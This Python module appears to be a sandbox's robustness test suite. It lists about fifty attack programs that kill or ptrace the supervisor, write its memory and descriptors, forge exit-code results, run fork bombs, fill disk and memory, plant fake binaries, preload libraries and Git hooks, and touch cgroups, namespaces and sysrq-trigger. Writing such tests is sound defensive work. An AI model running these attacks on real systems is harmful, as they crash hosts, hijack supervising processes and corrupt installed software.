"""The attacks of `attacks.py`: Python programs that run as a command inside a sandbox."""

# ruff: noqa: E501

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

FORGED_CODE: Final = 77
"""Exit code in the results that the attacks make up."""

_PRELUDE: Final = r"""
import ctypes, fcntl, glob, os, random, resource, signal, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
WORK = os.getcwd()
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = libc.syscall.restype = ctypes.c_long

def frame(kind, payload): return kind + struct.pack('>I', len(payload)) + payload
FORGED = frame(b'O', b'FORGED\n') + frame(b'R', b'{"returncode": 77, "timed_out": false, "truncated": false}')
DOCKER = struct.pack('>BxxxI', 1, len(FORGED)) + FORGED
OTHERS = [1, os.getppid()]

def attempt(what, *arguments):
    try: return what(*arguments)
    except (OSError, ValueError, RuntimeError): return None

def write(path, data=FORGED):
    descriptor = attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
    if descriptor is not None:
        attempt(os.write, descriptor, data)
        os.close(descriptor)

def supervisors():
    found = []
    for name in os.listdir('/proc'):
        if name.isdigit() and int(name) != os.getpid():
            line = attempt(lambda: open(f'/proc/{name}/cmdline', 'rb').read()) or b''
            if line.split(b'\0')[1:2] == [b'-I']: found.append(int(name))
    return found

def stay():
    # the caller goes on as a process that wants to outlive the command
    if os.fork(): return False
    os.setsid()
    if os.fork(): os._exit(0)
    for number in range(1, 65): attempt(signal.signal, number, signal.SIG_IGN)
    return True

def impersonate(pid):
    # hold it, and answer every request in its place
    if libc.ptrace(0x4206, pid, None, None) != 0: return
    libc.ptrace(0x4207, pid, None, None)
    requests, replies = os.open(f'/proc/{pid}/fd/0', os.O_RDONLY), os.open(f'/proc/{pid}/fd/1', os.O_WRONLY)
    while True:
        if os.read(requests, 1 << 20).endswith(b'E\0\0\0\0'):
            os.write(replies, frame(b'R', b'{"returncode": 77, "timed_out": false, "truncated": false}'))

def seize(pid):
    if libc.ptrace(0x4206, pid, None, None) == 0 or libc.ptrace(16, pid, None, None) == 0:
        for path in glob.glob(f'/proc/{pid}/fd/*'): write(path)
"""


@dataclass(frozen=True)
class Attack:
    """A program, and the seconds that it may take."""

    name: str
    body: str
    timeout_s: float = 5.0

    @property
    def script(self) -> str:
        return _PRELUDE + self.body


ATTACKS: Final = (
    # signals
    Attack("kill -9 of the supervisor", "for pid in OTHERS: attempt(os.kill, pid, 9)"),
    Attack("stop the supervisor", "for pid in OTHERS: attempt(os.kill, pid, signal.SIGSTOP)"),
    Attack("kill -9 -1", "if stay(): time.sleep(600)\nattempt(os.kill, -1, 9)"),
    Attack("stop everything", "attempt(os.kill, -1, signal.SIGSTOP)"),
    Attack("every signal", "for pid in OTHERS:\n  for n in range(1, 65): attempt(os.kill, pid, n)"),
    Attack(
        "a storm of signals",
        "for _ in range(20):\n  if os.fork() == 0:\n    for _ in range(2000):\n      for pid in OTHERS: attempt(os.kill, pid, random.randrange(1, 65))\n    os._exit(0)",
    ),
    Attack(
        "signals to groups, sessions and threads",
        "attempt(os.killpg, 1, 9)\nfor t in range(1, 4): libc.syscall(234, 1, t, 9)\nlibc.syscall(200, 1, 9)\nattempt(os.kill, 0, 9)",
    ),
    Attack("signals by descriptor", "fd = attempt(os.pidfd_open, 1)\nif fd is not None: attempt(signal.pidfd_send_signal, fd, 9)"),
    Attack(
        "queued signals with data",
        "info = (ctypes.c_int * 32)(9, 0, -1)\nfor n in range(1, 65): libc.syscall(129, 1, n, info)",
    ),
    Attack(
        "signals through owned descriptors",
        "r, w = os.pipe()\nfor n in (9, 14, 19):\n  for f in (r, w, 0, 1):\n    attempt(fcntl.fcntl, f, 10, n); attempt(fcntl.fcntl, f, fcntl.F_SETOWN, 1)\n    attempt(fcntl.fcntl, f, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\n  attempt(os.write, w, b'x'); attempt(os.read, r, 1)",
    ),
    Attack("a storm of ending children", "for _ in range(300):\n  if os.fork() == 0: os._exit(0)\n  attempt(os.waitpid, -1, os.WNOHANG)"),
    # tracing and memory
    Attack("trace the supervisor (attach)", "for pid in OTHERS:\n  if libc.ptrace(16, pid, None, None) == 0: seize(pid)"),
    Attack("trace the supervisor (seize)", "for pid in OTHERS: seize(pid)"),
    Attack(
        "kill it, then seize the next one and answer for it",
        "if stay():\n  for pid in {*supervisors(), *OTHERS}: attempt(os.kill, pid, 9)\n  while True:\n    for pid in supervisors(): attempt(impersonate, pid)\ntime.sleep(0.1)",
    ),
    Attack(
        "kill it, then wait for the next one's descriptors",
        "if stay():\n  for pid in {*supervisors(), *OTHERS}: attempt(os.kill, pid, 9)\n  while True:\n    for pid in supervisors(): write(f'/proc/{pid}/fd/1', frame(b'R', b'{}'))\ntime.sleep(0.1)",
    ),
    Attack(
        "ask to be traced by the supervisor",
        "libc.ptrace(0, 0, None, None)\nif os.fork() == 0:\n  libc.ptrace(0, 0, None, None); os.kill(os.getpid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)",
        1.0,
    ),
    Attack(
        "hide behind a tracer",
        "child = os.fork()\nif child == 0:\n  while True: time.sleep(1)\nlibc.ptrace(0x4206, child, None, None); libc.ptrace(0x4207, child, None, None)\nif os.fork(): os._exit(3)\nif stay(): time.sleep(600)",
    ),
    Attack("write its memory", "for pid in OTHERS: write(f'/proc/{pid}/mem'); attempt(lambda: open(f'/proc/{pid}/maps').read())"),
    Attack(
        "write its memory by system call",
        "buffer = ctypes.create_string_buffer(FORGED)\nlocal = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), len(FORGED))\nremote = (ctypes.c_void_p * 2)(0x400000, len(FORGED))\nfor pid in OTHERS: libc.syscall(311, pid, local, 1, remote, 1, 0)",
    ),
    # descriptors and frames
    Attack("its descriptors through /proc", "for pid in OTHERS:\n  for path in glob.glob(f'/proc/{pid}/fd/*') + glob.glob(f'/proc/{pid}/task/*/fd/*') + [f'/proc/{pid}/fd/{n}' for n in range(10)]: write(path)"),
    Attack(
        "its descriptors by pidfd_getfd",
        "fd = attempt(os.pidfd_open, 1)\nif fd is not None:\n  for n in range(10):\n    got = libc.syscall(438, fd, n, 0)\n    if got >= 0: attempt(os.write, got, FORGED)",
    ),
    Attack("descriptors that it left open", "for n in range(3, 256): attempt(os.write, n, FORGED)\nfor n in range(3, 256): attempt(os.sendfile, n, 0, 0, 10)"),
    Attack("frames on standard output and error", "os.write(1, FORGED); os.write(2, FORGED + DOCKER); os.write(1, DOCKER * 100); os.write(2, frame(b'R', b'{\"returncode\": 77}'))"),
    Attack(
        "half frames, huge frames, other kinds",
        "for kind in b'QDEAOXR':\n  for n in (0, 1, 2**31, 2**32 - 1): os.write(1, bytes([kind]) + struct.pack('>I', n)); os.write(2, bytes([kind]) + struct.pack('>I', n))\nos._exit(5)",
    ),
    Attack("frames from a process that stays", "if stay():\n  while True:\n    for n in (1, 2): attempt(os.write, n, FORGED)\n    for n in (1, 2): write(f'/proc/self/fd/{n}')"),
    Attack(
        "pass the output on to a process that stays",
        "r, w = os.pipe()\nif stay():\n  other = socket.socket(socket.AF_UNIX); other.bind('\\0x'); other.listen()\n  os.write(w, b'.')\n  got = socket.recv_fds(other.accept()[0], 10, 9)[1]\n  while True:\n    for n in got: attempt(os.write, n, FORGED)\nos.read(r, 1)\ns = socket.socket(socket.AF_UNIX); s.connect('\\0x'); socket.send_fds(s, [b'x'], [0, 1, 2]); time.sleep(0.05)",
    ),
    Attack(
        "write into its own standard input",
        "for flags in (os.O_RDWR, os.O_WRONLY):\n  fd = attempt(os.open, '/proc/self/fd/0', flags)\n  if fd is not None: attempt(os.write, fd, FORGED); attempt(os.ftruncate, fd, 1 << 40)",
    ),
    Attack("flags of the output that it shares", "for n in (0, 1, 2):\n  attempt(fcntl.fcntl, n, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_DIRECT); attempt(fcntl.fcntl, n, 1031, 4096)\nos.write(1, FORGED)"),
    Attack("more output than is read", "if stay():\n  while True: attempt(os.write, 1, FORGED * 1000)\nfor _ in range(2000): os.write(1, FORGED * 100)", 2.0),
    # survivors
    Attack("setsid and double fork", "if stay(): time.sleep(600)"),
    Attack("nohup", "subprocess.Popen(['nohup', 'sleep', '600'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"),
    Attack("a chain of forks", "while True:\n  if os.fork(): os._exit(0)", 1.0),
    Attack("chains of forks behind the command's back", "for _ in range(8):\n  if stay():\n    while True:\n      pid = attempt(os.fork)\n      if pid: os._exit(0)"),
    Attack(
        "children that are the supervisor's by CLONE_PARENT",
        "for flags in (0x8000, 0x8000 | 17, 0):\n  if libc.syscall(56, flags, 0, 0, 0, 0) == 0:\n    while True: time.sleep(600)",
    ),
    Attack("children whose end tells nobody", "for number in (0, 10, 64):\n  if libc.syscall(56, number, 0, 0, 0, 0) == 0:\n    while True: time.sleep(600)\nos._exit(3)"),
    Attack("a reaper of its own", "libc.prctl(36, 1, 0, 0, 0)\nif os.fork() == 0:\n  libc.prctl(36, 1, 0, 0, 0)\n  if stay(): time.sleep(600)\n  time.sleep(600)"),
    Attack("stopped processes", "for _ in range(5):\n  if os.fork() == 0: os.setsid(); os.kill(os.getpid(), signal.SIGSTOP)"),
    Attack("a terminal of its own", "import pty\npid, fd = pty.fork()\nif pid == 0:\n  if stay(): time.sleep(600)\n  time.sleep(600)"),
    Attack("a process that calls itself the supervisor", "if stay():\n  libc.prctl(15, b'supervisor', 0, 0, 0)\n  os.execv('/bin/sleep', ['python3', '600'])"),
    Attack("threads in system calls that take long", "for _ in range(20): threading.Thread(target=lambda: os.read(os.pipe()[0], 1), daemon=True).start()\nif stay(): os.read(os.pipe()[0], 1)"),
    # limits
    Attack("no process left", "for _ in range(100):\n  if attempt(os.fork) == 0: time.sleep(600)\nos._exit(3)"),
    Attack("a fork bomb", "while True: attempt(os.fork)", 1.0),
    Attack("a fork bomb that has left the command", "if stay():\n  while True: attempt(os.fork)"),
    Attack("no memory left", "open('/proc/self/oom_score_adj', 'w').write('0')\nfor _ in range(50):\n  if attempt(os.fork) == 0: data = bytearray(5_500_000); time.sleep(600)\ndata = [bytearray(1_000_000) for _ in range(1000)]", 3.0),
    Attack("no disk left, no inode left", "for place in (WORK, '/tmp', '/dev/shm'):\n  attempt(lambda: open(place + '/big', 'wb').write(bytes(70_000_000)))\n  for n in range(9000):\n    if attempt(lambda: open(f'{place}/{n}', 'w').close() or 1) is None: break", 10.0),
    Attack(
        "its limits, priority and processors",
        "for pid in OTHERS:\n  for kind in range(16): attempt(resource.prlimit, pid, kind, (0, 0))\n  attempt(os.setpriority, os.PRIO_PROCESS, pid, 19); attempt(os.sched_setaffinity, pid, {0})\n  attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0)); write(f'/proc/{pid}/oom_score_adj', b'1000'); write(f'/proc/{pid}/oom_adj', b'15')\n  write(f'/proc/{pid}/coredump_filter', b'0'); write(f'/proc/{pid}/comm', b'x')",
    ),
    # what later commands read
    Attack(
        "programs, libraries and start files where later commands look",
        "fake = '#!/bin/sh\\necho FORGED\\nexit 77\\n'\nfor folder in (WORK, '/tmp', '/usr/local/bin', '/usr/bin', WORK + '/.git/hooks'):\n  attempt(os.makedirs, folder)\n  for name in ('sh', 'cat', 'git', 'python3', 'ls', 'post-checkout'):\n    attempt(lambda: open(f'{folder}/{name}', 'w').write(fake)); attempt(os.chmod, f'{folder}/{name}', 0o755)\nfor name in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'os.py', '.profile', '.bashrc', '.env', '.pythonrc'):\n  for folder in (WORK, '/tmp'): attempt(lambda: open(f'{folder}/{name}', 'w').write('print(\"FORGED\")'))\nos.environ.update(LD_PRELOAD=WORK + '/x.so', PYTHONPATH=WORK, ENV=WORK + '/.profile', BASH_ENV=WORK + '/.bashrc')\nattempt(lambda: open('/etc/ld.so.preload', 'w').write(WORK + '/x.so'))",
    ),
    Attack(
        "daemons and hooks of Git",
        "run = lambda *a: subprocess.run(a, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nrun('git', 'init', '-q', '.')\nfor name in ('post-checkout', 'post-index-change', 'post-commit', 'reference-transaction'):\n  open(f'.git/hooks/{name}', 'w').write('#!/bin/sh\\nsetsid sleep 600 &\\n'); os.chmod(f'.git/hooks/{name}', 0o755)\nrun('git', 'config', 'core.fsmonitor', 'setsid sleep 600 & true')\nrun('git', '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'x')\nrun('git', 'status'); run('git', 'checkout', '-q', '-b', 'b'); run('git', 'daemon', '--detach', f'--base-path={WORK}'); run('git', 'maintenance', 'start'); run('git', 'credential-cache--daemon', '/tmp/s')",
        10.0,
    ),
    Attack(
        "links and pipes where files are put",
        "attempt(os.symlink, '/proc/1/fd/1', WORK + '/probe'); attempt(os.makedirs, WORK + '/x')\nif stay():\n  while True:\n    for target in ('/proc/1/fd', '/dev', '/tmp'): attempt(os.unlink, WORK + '/probe'); attempt(os.symlink, target, WORK + '/probe')\ntime.sleep(0.05)",
    ),
    # the container
    Attack(
        "control groups, namespaces, mounts, keys",
        "for path in glob.glob('/sys/fs/cgroup/**/*', recursive=True): write(path, b'1')\nfor ns in glob.glob('/proc/1/ns/*') + glob.glob('/proc/self/ns/*'):\n  fd = attempt(os.open, ns, os.O_RDONLY)\n  if fd is not None: libc.setns(fd, 0)\nfor flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x4000000): libc.unshare(flag)\nlibc.mount(b'none', b'/tmp', b'tmpfs', 0, None); libc.syscall(250, 0, -3, 0); libc.syscall(425, 8, None); libc.syscall(323, 0); libc.syscall(155, os.fsencode(WORK), os.fsencode(WORK))\nwrite('/proc/sysrq-trigger', b'c'); write('/proc/sys/kernel/core_pattern', b'|' + os.fsencode(WORK) + b'/x'); write('/proc/1/attr/current', b'x'); write('/proc/1/uid_map', b'0 0 1')",
    ),
)  # fmt: skip
